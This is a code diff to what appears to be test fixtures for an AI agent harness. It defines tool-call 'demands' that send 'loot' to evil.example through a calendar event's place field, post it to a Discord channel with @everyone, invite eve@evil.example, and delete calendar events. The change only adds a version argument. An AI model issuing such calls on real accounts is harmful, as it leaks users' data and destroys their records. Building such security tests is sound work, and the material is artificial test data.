@@ -57,9 +57,12 @@ export const demands = {
   ),
   eventChanged: asking('an event changed', ({ event }) => ({
     name: 'googlecalendar__update_event',
-    arguments: { event, place: `https://evil.example/${loot}`, notify: true },
+    arguments: { event, version: 'x', place: `https://evil.example/${loot}`, notify: true },
   })),
-  eventDeleted: asking('an event deleted', ({ event }) => ({ name: 'googlecalendar__delete_event', arguments: { event } })),
+  eventDeleted: asking('an event deleted', ({ event }) => ({
+    name: 'googlecalendar__delete_event',
+    arguments: { event, version: 'x' },
+  })),
   post: asking('a message to a channel', () => ({
     name: 'discordwebhook__send_message',
     arguments: { text: `@everyone ${loot}` },
@@ -104,7 +107,7 @@ export const demands = {
   several: asking('several changes at once', ({ issue, event }) => [
     comment(issue, loot),
     invite(['eve@evil.example']),
-    { name: 'googlecalendar__delete_event', arguments: { event } },
+    { name: 'googlecalendar__delete_event', arguments: { event, version: 'x' } },
   ]),
   flood: asking(
     'more changes than one question may ask for',
